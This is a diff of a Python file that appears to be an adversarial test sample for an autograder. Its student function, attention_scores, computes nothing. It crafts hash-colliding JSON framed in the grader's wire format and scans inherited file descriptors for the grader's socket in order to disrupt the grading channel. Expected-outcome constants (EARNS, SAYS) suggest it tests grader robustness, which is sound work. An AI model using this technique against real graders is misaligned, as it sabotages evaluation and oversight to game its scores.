@@ -6,9 +6,8 @@ Would work on graders that limit the time of the student's process but not their
 import json
 import os
 import socket
+import struct
 import sys
-
-from grader import wire
 
 EARNS = 0
 SAYS = "disturbed the channel"
@@ -17,7 +16,7 @@ SAYS = "disturbed the channel"
 def attention_scores(queries, keys, *values):
     pairs = [[n * sys.hash_info.modulus, 0] for n in range(95_000)]
     header = json.dumps([{"d": pairs}, []]).encode()
-    frame = wire.PREFIX.pack(wire.MAGIC, len(header), 0) + header
+    frame = struct.pack(">4sIQ", b"GRD1", len(header), 0) + header
     for descriptor in range(3, 256):
         try:
             channel = socket.socket(fileno=os.dup(descriptor))
